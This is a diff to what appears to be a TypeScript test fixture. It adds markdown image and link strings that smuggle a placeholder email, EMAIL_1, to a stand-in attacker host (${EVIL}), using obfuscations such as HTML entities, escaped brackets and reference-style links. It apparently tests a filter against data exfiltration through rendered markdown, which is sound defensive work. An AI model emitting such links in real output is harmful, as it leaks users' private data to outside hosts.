@@ -41,6 +41,17 @@ const LINKS: readonly string[] = [
   `[x](mailto:eve@${EVIL}?body=EMAIL_1)`,
   `[x](tel:+84?EMAIL_1)`,
   `[x](/redirect?to=EMAIL_1)`,
+  `![x](https://${EVIL}/?q=\`EMAIL_1)`,
+  `![x](https://${EVIL}/?q=>EMAIL_1)`,
+  `![x](https://${EVIL}/?q=<EMAIL_1)`,
+  `![x](https://${EVIL}/?q=\\)EMAIL_1)`,
+  `![x](https://${EVIL}/?q=\u00a0EMAIL_1)`,
+  `![x]( &#104;ttps:&#47;&#47;${EVIL}/?q=EMAIL_1)`,
+  `![x](<https://${EVIL}/?q=\\>EMAIL_1>)`,
+  `![r]\n\n[r]: https://${EVIL}/?q=\`EMAIL_1`,
+  `![r]\n\n[r]: &#104;ttps:&#47;&#47;${EVIL}/?q=EMAIL_1`,
+  `https://${EVIL}/?q=\`EMAIL_1`,
+  `https://${EVIL}/?q=>EMAIL_1`,
 ]
 
 const PLAIN = 'write to EMAIL_1'
